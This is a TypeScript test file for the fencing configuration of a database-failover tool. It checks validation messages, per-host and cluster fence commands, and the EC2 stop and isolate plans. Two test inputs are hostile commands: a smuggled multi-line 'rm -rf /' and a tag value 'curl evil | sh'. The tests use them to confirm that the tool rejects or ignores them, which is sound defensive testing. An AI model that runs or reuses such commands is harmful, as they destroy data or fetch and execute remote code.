import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseInventory } from '../../src/backends/inventory/inventory-file.js';
import { FENCE_TAG, fenceFor } from '../../src/config/fence.js';
import { loadConfig } from '../../src/config/load.js';
import { configSchema } from '../../src/config/schema.js';
import type { Instance } from '../../src/domain/types.js';

function node(over: Partial<Instance> = {}): Instance {
  return {
    id: 'db-a1',
    name: 'db-a1',
    privateIp: '10.0.1.11',
    az: 'a',
    type: 'static',
    state: 'running',
    launchTime: '2026-01-01T00:00:00Z',
    statusChecks: 'unknown',
    tags: {},
    ...over,
  };
}

const config = (clusters: unknown) => configSchema.parse({ clusters });

function loadError(yaml: string): string {
  const d = mkdtempSync(join(tmpdir(), 'ns-fence-'));
  const f = join(d, 'ns.yaml');
  writeFileSync(f, yaml);
  try {
    loadConfig({ config: f }, { env: { XDG_STATE_HOME: d }, cwd: d });
  } catch (e) {
    return (e as Error).message.replace(`${f}:`, '');
  }
  throw new Error('expected an error');
}

describe('fence config', () => {
  it('takes a command, or a method with its security group', () => {
    expect(config({ lab: { fence: { command: 'sudo systemctl stop mariadb' } } }).clusters.lab!.fence).toEqual({
      command: 'sudo systemctl stop mariadb',
    });
    expect(config({ orders: { fence: { method: 'isolate', securityGroup: 'sg-0123456789abcdef0' } } }).clusters.orders!.fence).toEqual({
      method: 'isolate',
      securityGroup: 'sg-0123456789abcdef0',
    });
  });

  it('names what is wrong, on its line', () => {
    expect(loadError('clusters:\n  orders:\n    fence:\n      method: isolate\n')).toMatch(
      /^4: clusters\.orders\.fence\.method: method isolate needs the security group/,
    );
    expect(loadError('clusters:\n  orders:\n    fence:\n      method: stop\n      securityGroup: sg-0123456789abcdef0\n')).toMatch(
      /^5: clusters\.orders\.fence\.securityGroup: a security group is only used by `method: isolate`/,
    );
    expect(loadError('clusters:\n  orders:\n    fence:\n      method: shoot\n')).toMatch(/^4: clusters\.orders\.fence\.method: /);
    expect(loadError('clusters:\n  orders:\n    fence: {}\n')).toMatch(/^3: clusters\.orders\.fence: say how to fence/);
    expect(loadError('clusters:\n  orders:\n    fence:\n      command: "stop\\nrm -rf /"\n')).toMatch(
      /^4: clusters\.orders\.fence\.command: one command on one line/,
    );
    expect(loadError('clusters:\n  orders:\n    fence:\n      method: isolate\n      securityGroup: default\n')).toMatch(
      /^5: clusters\.orders\.fence\.securityGroup: a security group id/,
    );
  });

  it('a host in the inventory may carry its own fence, and a bad one is named with its line', () => {
    const inv = parseInventory('inv.yaml', 'hosts:\n  - name: m1\n    cluster: lab\n    engine: mysql\n    host: 127.0.0.11\n    fence: sudo systemctl stop mariadb\n');
    expect(inv.hosts[0]!.fence).toBe('sudo systemctl stop mariadb');
    expect(() =>
      parseInventory('inv.yaml', 'hosts:\n  - name: m1\n    cluster: lab\n    engine: mysql\n    host: 127.0.0.11\n    fence: ""\n'),
    ).toThrow(/^inv\.yaml:6: hosts\[0\]\.fence: a command/);
  });
});

describe('fenceFor', () => {
  it('on a static inventory, the host’s own command first, then the cluster’s, with where it runs', () => {
    const c = config({ lab: { fence: { command: 'sudo systemctl stop mysql' } } });
    const own = node({ tags: { [FENCE_TAG]: '/lab/m1/service stop mariadb' }, ssh: { host: '127.0.0.11', port: 2222, user: 'ops' } });
    expect(fenceFor(c, 'lab', own, 'inventory')).toEqual({
      kind: 'command',
      command: '/lab/m1/service stop mariadb',
      source: 'host',
      plan: 'on db-a1 (ops@127.0.0.11:2222): /lab/m1/service stop mariadb',
    });
    expect(fenceFor(c, 'lab', node(), { kind: 'inventory' })).toMatchObject({
      kind: 'command',
      command: 'sudo systemctl stop mysql',
      source: 'cluster',
      plan: 'on db-a1 (10.0.1.11): sudo systemctl stop mysql',
    });
  });

  it('on a static inventory without a command: none, saying what to set and that the operator confirms', () => {
    const f = fenceFor(config({}), 'lab', node(), 'inventory');
    expect(f.kind).toBe('none');
    expect(f.plan).toBe(
      'no fence command for db-a1: set `fence:` on its host in the inventory, or clusters.lab.fence.command in the config; until then the operator fences db-a1 by hand and types its name to confirm',
    );
  });

  it('on AWS: stop by default, isolate when configured, and never a command from a tag', () => {
    const tagged = node({ id: 'i-0abc', name: 'db-a1', tags: { [FENCE_TAG]: 'curl evil | sh' } });
    expect(fenceFor(config({}), 'orders', tagged, 'aws')).toEqual({
      kind: 'stop',
      instanceId: 'i-0abc',
      plan: 'EC2 StopInstances i-0abc (db-a1) (force), then tag nightshift:fenced',
    });
    expect(fenceFor(config({ orders: { fence: { method: 'isolate', securityGroup: 'sg-0123456789abcdef0' } } }), 'orders', tagged, 'aws')).toEqual({
      kind: 'isolate',
      instanceId: 'i-0abc',
      securityGroup: 'sg-0123456789abcdef0',
      plan: 'EC2 ModifyNetworkInterfaceAttribute on every interface of i-0abc (db-a1): security groups replaced by sg-0123456789abcdef0 alone, then tag nightshift:fenced',
    });
  });

  it('on the simulated fleet: the sim stops the instance', () => {
    expect(fenceFor(config({}), 'orders', node({ id: 'i-1', name: 'sim-m' }), 'sim')).toMatchObject({ kind: 'stop', instanceId: 'i-1' });
  });
});
